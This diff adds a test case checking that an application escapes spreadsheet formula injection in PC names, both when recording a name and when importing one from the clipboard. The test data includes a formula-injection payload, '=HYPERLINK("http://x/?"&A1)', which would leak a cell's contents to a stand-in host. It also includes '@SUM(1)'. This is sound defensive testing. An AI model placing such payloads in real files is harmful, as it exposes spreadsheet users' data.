@@ -475,6 +475,23 @@ def case_import_writes_the_mailed_record_and_empties_the_clipboard(z):
     expect_equal(z.wait_exit(), 0, "exit code")
 
 
+def case_record_and_import_guard_names_a_spreadsheet_would_take_for_formulas(z):
+    started(z)
+    path = default_record_file(z)
+    z.settext(PC_NAME_EDIT, '=HYPERLINK("http://x/?"&A1)')
+    line = shown_line(z).replace(b'"=HYP', b'"\'=HYP', 1)
+    z.click(RECORD_BUTTON)
+    wait_for_lines(path, 2)
+    name = '"会計課7号機"'.encode("cp932")
+    z.clip_set(b"Zeltrand v0.90 2[" + fixture("worked_example_mail.txt").replace(name, b'"@SUM(1)"')
+               + b"]")
+    z.click(IMPORT_BUTTON)
+    imported = fixture("worked_example_imported.csv").replace(name, b'"\'@SUM(1)"')
+    expect_equal(wait_for_lines(path, 3), fixture("header.csv") + line + imported, "the record file")
+    z.click(EXIT_BUTTON)
+    expect_equal(z.wait_exit(), 0, "exit code")
+
+
 def case_import_into_a_busy_file_says_so_and_keeps_the_clipboard(z):
     started(z)
     path = default_record_file(z)
